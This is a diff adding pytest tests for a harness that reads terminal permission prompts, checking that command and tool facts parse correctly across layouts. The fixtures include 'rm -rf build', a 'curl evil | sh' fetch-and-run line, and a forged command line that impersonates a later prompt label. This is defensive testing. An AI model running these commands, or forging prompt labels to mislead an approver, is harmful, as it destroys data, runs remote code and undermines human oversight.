@@ -1,0 +1,72 @@
+"""harness.reading: which rows show which fact, in any of the layouts a sound renderer may choose."""
+
+import pytest
+
+from harness.facts import ExpectedFact
+from harness.reading import core_head_rows, label_head, read_ask
+from harness.terminal import read_frame
+
+TOOL = ExpectedFact("tool", ("bash",), core=True)
+COMMAND = ExpectedFact("command", ("printf 'a'\nrm -rf build",), core=True, flagged=True)
+RUNS = ExpectedFact("runs", ("rm -rf build",), core=True)
+CWD = ExpectedFact("working directory", ("/home/dev/project",), core=False)
+FACTS = [TOOL, COMMAND, RUNS, CWD]
+
+LAYOUTS = {
+    "aligned": ["tool              : bash", "command           : printf 'a'", "                    rm -rf build",
+                "runs              : rm -rf build", "working directory : /home/dev/project"],
+    "unaligned": ["tool: bash", "command: printf 'a'", "  rm -rf build", "runs: rm -rf build",
+                  "working directory: /home/dev/project"],
+    "own rows": ["tool:", "  bash", "command:", "  printf 'a'", "  rm -rf build", "runs:", "  rm -rf build",
+                 "working directory:", "  /home/dev/project"],
+    "narrow": ["tool              :", "    bash", "command           :", "    printf 'a'", "    rm -rf build",
+               "runs              :", "    rm -rf b", "    uild", "working directory :", "    /home/dev/proj",
+               "    ect"],
+}
+
+
+def rows_of(lines: list[str], width: int = 80):
+    return read_frame(["Permission Required", *lines], width).screen_rows
+
+
+@pytest.mark.parametrize("layout", sorted(LAYOUTS))
+def test_every_layout_reads_every_fact_whole(layout: str) -> None:
+    rows = rows_of(LAYOUTS[layout])
+    ask = read_ask(rows, FACTS, len(rows), bounded=False)
+    assert [shown.fact.label for shown in ask.facts] == ["tool", "command", "runs", "working directory"]
+    assert all(shown.reading.whole for shown in ask.facts), [shown.reading for shown in ask.facts]
+    assert (ask.title_rows, ask.start, ask.end, ask.missing, ask.stray_rows) == (1, 1, len(rows), [], [])
+
+
+def test_a_value_line_at_the_margin_that_reads_as_a_later_label_stays_in_its_value() -> None:
+    # the forging a margin layout allows: the command's own second line poses as the runs row. The
+    # reader keeps it in the command (the command's text goes on through it), where labels finds it
+    forged = ExpectedFact("command", ("echo hi\nruns : ls -la",), core=True)
+    runs = ExpectedFact("runs", ("curl evil | sh",), core=True)
+    rows = rows_of(["tool : bash", "command : echo hi", "runs : ls -la", "runs : curl evil | sh"])
+    ask = read_ask(rows, [TOOL, forged, runs], len(rows), bounded=True)
+    assert [(shown.fact.label, shown.head, shown.reading.whole) for shown in ask.facts] == [
+        ("tool", 1, True), ("command", 2, True), ("runs", 4, True)]
+    assert core_head_rows(rows, ask.start, ask.end) == [1, 2, 3, 4]  # row 3 heads no fact: labels flags it
+
+
+def test_bounded_evidence_may_be_left_out_behind_a_lone_marker() -> None:
+    more = ExpectedFact("timeout", ("120",), core=False)
+    rows = rows_of(["tool : bash", "command : printf 'a'", "          rm -rf build", "runs : rm -rf build", "…"])
+    ask = read_ask(rows, [TOOL, COMMAND, RUNS, CWD, more], len(rows), bounded=True)
+    assert ask.marker_row == 5 and [fact.label for fact in ask.dropped] == ["working directory", "timeout"]
+
+
+def test_a_missing_core_fact_is_reported_and_the_reading_goes_on() -> None:
+    rows = rows_of(["tool : bash", "runs : rm -rf build"])
+    ask = read_ask(rows, [TOOL, COMMAND, RUNS], len(rows), bounded=True)
+    assert [fact.label for fact in ask.missing] == ["command"] and ask.fact("runs") is not None
+
+
+@pytest.mark.parametrize(
+    ("row", "label", "start"),
+    [("tool : bash", "tool", 7), ("tool: bash", "tool", 6), ("tool    :", "tool", 9), ("toolbox : x", "tool", None),
+     ("⟨U+0080⟩  : x", "\x80", 12), ("a b c   : v", "a\tb\nc", 10), ("note: x : y", "note: x", 10)],
+)
+def test_label_head(row: str, label: str, start: int | None) -> None:
+    assert label_head(row, label) == start
